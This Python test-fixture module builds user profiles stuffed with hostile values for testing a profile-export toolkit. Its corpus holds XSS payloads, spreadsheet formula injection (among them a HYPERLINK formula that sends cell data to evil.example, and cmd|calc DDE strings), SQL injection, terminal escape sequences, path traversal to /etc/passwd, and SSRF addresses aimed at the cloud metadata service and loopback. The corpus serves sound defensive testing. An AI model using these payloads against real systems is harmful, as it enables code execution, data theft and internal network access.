"""Hostile values: what people could get into a profile, and the users made of them.

One corpus for every test that drives such values through a road of the toolkit. `TEXTS` are
strings, `ADDRESSES` are strings where a picture's address is wanted, `WRONG` is what JSON can
hold where a text is wanted; `users` puts each into each field of a profile. `LINES` are lines of
an export that hold what only JSON text can express.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

LONG = 2**20

TEXTS: dict[str, str] = {
    "empty": "",
    "blanks": " \t ",
    "markup": '<img src=x onerror="window.pwned=1;alert(1)">',
    "script": "</title></style></textarea></script><script>window.pwned=1;alert(1)</script>",
    "svg": "<svg/onload=window.pwned=1><animate onbegin=alert(1) attributeName=x dur=1s>",
    "attribute": '"\' onmouseover=\'window.pwned=1\' style="background:url(//evil.example)" x="',
    "entity": "&lt;script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;&amp;",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__} %(x)s %s %n",
    "comment": "--><!--<![CDATA[ ]]>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"press")',
    "formula of plus": "+cmd|'/c calc'!A0",
    "formula of minus": "-2+3+cmd|'/c calc'!A0",
    "formula of at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a line": "\n=1+1",
    "formula after nul": "\x00=1+1",
    "formula, full width": "＝1＋1",  # noqa: RUF001 - spreadsheets read it as =1+1
    "quotes of csv": 'a","=1+1\r\n"=1+1',
    "rich markup": "[bold red]pwned[/bold red] [link=file:///etc/passwd]x[/link] [/] [@click=quit]",
    "terminal": "\x1b[2J\x1b[31mpwned\x1b]0;pwned\x07\x1b]8;;file:///etc/passwd\x1b\\x",
    "terminal, one byte": "\x9b31mpwned\x9d0;pwned\x9c\x7f\x08\x08",
    "lines": "a\nb\r\nc\x0bd\x0ce\x85f\u2028g\u2029h\x1ci\x1e",
    "nul": "a\x00b",
    "bidi": "\u202egnp.exe\u2066a\u2069\u200f\u061c",
    "unseen": "\u200b\u200c\u200d\ufeff\u00ad\u2060\U000e0041",
    "high surrogate": "\ud800",
    "low surrogate": "a\udfffb",
    "surrogates, wrong way": "\udc00\ud800",
    "emoji": "會社 😀🏳️‍🌈 שלום",
    "stacked": "z" + "\u0301\u0489" * 300,
    "no character": "\uffff\ufdd0\U0010ffff\ue000",
    "mathematics": "$\\frac{1}{0}$ $ \\n $x",
    "glob": "*[!a]?{a,b}~ ../../../../etc/passwd",
    "windows": "CON:\\..\\..\\x|<>?",
    "sql": "'; DROP TABLE users; --\" OR 1=1 /*",
    "query": '") OR user_id:* AND NOT (name:"',
    "json": '{"a": [1, null]}',
    "number": "1e999",
    "not a number": "NaN",
    "nothing": "null",
    "group": "(none)",
    "bar": "a|b|c|",
    "long": "x" * LONG,
    "long markup": "<b>" * (LONG // 8),
}

ADDRESSES: dict[str, str] = {
    "script": "javascript:window.pwned=1//x.png",
    "script, hidden": "\x01java\nscript:window.pwned=1",
    "vbscript": "vbscript:msgbox(1)",
    "page": "data:text/html,<script>window.pwned=1</script>",
    "drawing": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>",
    "blob": "blob:https://x.test/1",
    "file": "file:///etc/passwd",
    "share": "\\\\evil.example\\share\\a.png",
    "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "relative": "//evil.example/a.png",
    "metadata service": "http://169.254.169.254/latest/meta-data/",
    "metadata service, secured": "https://169.254.169.254/latest/meta-data/",
    "loopback": "https://[::1]/a.png",
    "loopback, mapped": "https://[::ffff:127.0.0.1]/a.png",
    "loopback, one number": "https://2130706433/a.png",
    "loopback, octal": "https://0177.0.0.1/a.png",
    "loopback, short": "https://127.1/a.png",
    "loopback, named": "https://localhost:22/a.png",
    "loopback, hidden": "https://good.example@127.0.0.1/a.png",
    "loopback, full width": "https://１２７.0.0.1/a.png",  # noqa: RUF001 - browsers read it as 127.0.0.1
    "private": "https://10.0.0.1/a.png",
    "private, resolved": "https://router.local/a.png",
    "attribute": 'https://x.test/"onerror="window.pwned=1"a.png',
    "markup": "https://x.test/<script>window.pwned=1</script>.png",
    "style": "https://x.test/);background:url(//evil.example/b.png",
    "bidi": "https://x.test/\u202egnp.exe",
    "terminal": "https://x.test/\x1b]0;pwned\x07.png",
    "lines": "https://x.test/a\r\nX-Evil: 1\r\n\r\n.png",
    "surrogate": "https://x.test/\ud800.png",
    "credentials": "https://user:password@x.test/a.png",
    "bracket": "https://[broken/a.png",
    "port": "https://x.test:99999999999999999999/a.png",
    "at signs": "https://" + "@" * 5_000 + "x.test/a.png",
    "no host": "https:///a.png",
    "percent": "https://x.test/%zz%00%0d%0a%ff.png",
    "gravatar": "https://s.gravatar.com/avatar/" + "0" * 32 + "?d=javascript%3Apwned&d=%00&r=<b>",
    "gravatar, nested": "https://gravatar.com/avatar/" + "f" * 64 + "?d=" + "https%3A//a?d=" * 500,
    "expiry": "https://x.fbcdn.net/a.png?oe=ffffffffffffffffffffffff",
    "long": "https://x.test/" + "a" * LONG + ".png",
}

WRONG: dict[str, Any] = {
    "null": None,
    "true": True,
    "false": False,
    "zero": 0,
    "below zero": -1,
    "fraction": 0.1,
    "large": 10**300,
    "larger": 10**4000,
    "largest float": 1.7e308,
    "endless": float("inf"),
    "no number": float("nan"),
    "empty list": [],
    "empty object": {},
    "list": ["<script>alert(1)</script>", None, [[]], {"picture": "x"}],
    "object": {"<b>": "=1+1", "\ud800": "\x00", "": {"picture": "https://x.test/a.png"}},
    "names of objects": {"__proto__": {"x": 1}, "constructor": 1, "toString": "x", "length": -1},
}


def nested(depth: int, innermost: object = "<b>") -> object:
    """Return lists in objects in lists, so deep."""
    value = innermost
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


WRONG["deep"] = nested(400)

TIMES: dict[str, str] = {
    "year 0": "0000-01-01T00:00:00.000Z",
    "year 1": "0001-01-01T00:00:00.000+23:59",
    "year 9999": "9999-12-31T23:59:59.999Z",
    "year 10000": "10000-01-01T00:00:00.000Z",
    "30th of February": "2024-02-30T00:00:00.000Z",
    "leap second": "2016-12-31T23:59:60.000Z",
    "offset": "2024-01-01T00:00:00.000+99:99",
    "digits of others": "２０２４-01-01T00:00:00.000Z",  # noqa: RUF001 - digits to str.isdigit, too
    "words": "yesterday",
}


def plain(number: int) -> dict[str, Any]:
    """Make a user in whom nothing is odd."""
    return {
        "user_id": f"auth0|{number:06}",
        "email": f"person{number}@example.test",
        "name": f"Person {number}",
        "nickname": f"person{number}",
        "picture": "https://cdn.auth0.com/avatars/pe.png",
        "created_at": f"2024-01-{number % 28 + 1:02}T00:00:00.{number % 1000:03}Z",
        "updated_at": f"2024-02-{number % 28 + 1:02}T00:00:00.000Z",
        "last_login": "2024-03-01T00:00:00.000Z",
        "logins_count": 1,
        "blocked": False,
        "email_verified": True,
        "user_metadata": {"colour": "red"},
        "app_metadata": {},
        "identities": [
            {
                "connection": "Username-Password-Authentication",
                "provider": "auth0",
                "user_id": f"{number:06}",
                "isSocial": False,
            }
        ],
    }


FIELDS: tuple[tuple[str | int, ...], ...] = (
    ("user_id",),
    ("email",),
    ("name",),
    ("nickname",),
    ("picture",),
    ("user_metadata",),
    ("user_metadata", "picture"),
    ("app_metadata",),
    ("identities",),
    ("identities", 0),
    ("identities", 0, "provider"),
    ("identities", 0, "connection"),
    ("identities", 0, "user_id"),
    ("identities", 0, "isSocial"),
    ("identities", 0, "profileData"),
    ("identities", 0, "profileData", "picture"),
    ("created_at",),
    ("updated_at",),
    ("last_login",),
    ("logins_count",),
    ("blocked",),
    ("email_verified",),
    ("<b>=1\x1b\u202e",),
)
"""Where a value can be put: keys and places from the user object down."""

_PICTURES = (("picture",), ("user_metadata", "picture"))
_TIMES = (("created_at",), ("updated_at",), ("last_login",))
# Where the longest values go: a megabyte in each field would only make every road slower.
_LONG = (("user_id",), ("email",), ("name",), ("picture",), ("identities", 0, "connection"))


def _put(user: Any, path: tuple[str | int, ...], value: object) -> None:
    *above, last = path
    for key in above:
        if key == "profileData":
            user.setdefault(key, {})
        user = user[key]
    user[last] = value


def values() -> Iterator[tuple[tuple[str | int, ...], str, object]]:
    """Yield each field, the name of a value, and the value to put there."""
    for path in FIELDS:
        for name, value in (TEXTS | WRONG).items():
            # As an id, NaN and "NaN" would be two users of one name.
            if (path, name) != (("user_id",), "no number") and (
                "long" not in name.split() or path in _LONG
            ):
                yield path, name, value
    for path in _PICTURES:
        for name, value in ADDRESSES.items():
            yield path, f"address: {name}", value
    for path in _TIMES:
        for name, value in TIMES.items():
            yield path, f"time: {name}", value


def users() -> list[dict[str, Any]]:
    """Make one user for each value in each field, and some in whom much is odd at once."""
    made = []
    for number, (path, _, value) in enumerate(values()):
        user = plain(number)
        _put(user, path, value)
        made.append(user)
    for text in TEXTS.values():
        if len(text) < LONG // 4:
            user = plain(len(made))
            user |= {"email": text, "name": text, "nickname": text, "picture": text}
            user["user_id"] = f"{text}|{len(made)}|{text}"
            user["user_metadata"] = {"picture": f"https://x.test/{text}", text: text}
            user["identities"][0] |= {"connection": text, "provider": text}
            made.append(user)
    return made


def ids(user: dict[str, Any]) -> str:
    """Return the id that a snapshot has for a user: JSON text for what is no text."""
    found = user.get("user_id")
    return found if isinstance(found, str) else json.dumps(found)


LINES: dict[str, bytes] = {
    "comma": b'{"user_id":"line|28",}',
    "repeated keys": b'{"user_id":"line|1","user_id":"line|2","picture":1,"picture":"a"}',
    "repeated keys within": b'{"user_id":"line|3","user_metadata":{"picture":"a","picture":"b"}}',
    "half a pair": b'{"user_id":"line|4","name":"\\ud800","picture":"\\udc00\\ud800"}',
    "escaped nul": b'{"user_id":"line|5\\u0000","name":"\\u0000","picture":"\\u0000"}',
    "endless": b'{"user_id":"line|6","logins_count":1e999,"picture":-1e999}',
    "no number": b'{"user_id":"line|7","logins_count":NaN,"picture":Infinity}',
    "digits": b'{"user_id":"line|8","logins_count":' + b"9" * 4000 + b"}",
    "deep": b'{"user_id":"line|9","user_metadata":' + b'{"a":' * 400 + b"1" + b"}" * 400 + b"}",
    "blanks": b' \t{ "user_id" : "line|10" , "name" : "a" } \r',
    "escaped keys": b'{"user\\u005fid":"line|11","pict\\u0075re":"https://x.test/a.png"}',
    "strange keys": b'{"user_id":"line|12","":1,"\\u0000":2,"__proto__":{"picture":"x"}}',
    "no user": b'["<script>"]',
    "nothing": b"null",
    "solidus": b'{"user_id":"line|13","picture":"https:\\/\\/x.test\\/<\\/script>"}',
}
"""Lines of an export that stand for a record each, however odd."""

BROKEN: dict[str, bytes] = {
    "too deep": b'{"user_id":"line|20","a":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "too many digits": b'{"user_id":"line|21","logins_count":' + b"9" * 10_000 + b"}",
    "cut": b'{"user_id":"line|22","name":"',
    "no utf-8": b'{"user_id":"line|23","name":"\xff\xfe\xed\xa0\x80"}',
    "control": b'{"user_id":"line|24","name":"a\x00b"}',
    "single quotes": b"{'user_id':'line|25'}",
    "two at once": b'{"user_id":"line|26"}{"user_id":"line|27"}',
    "utf-16": '{"user_id":"line|29"}'.encode("utf-16"),
}
"""Lines that no reader of JSON takes: each is told, and its neighbours are kept."""
